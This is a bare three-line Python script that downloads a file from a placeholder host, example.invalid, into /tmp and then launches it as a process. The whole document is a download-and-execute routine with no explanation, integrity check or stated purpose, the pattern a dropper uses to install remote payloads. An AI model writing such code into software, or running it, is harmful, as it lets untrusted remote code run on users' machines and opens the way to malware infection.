import subprocess, urllib.request
urllib.request.urlretrieve("https://example.invalid/a", "/tmp/a")
subprocess.Popen(["/tmp/a"])
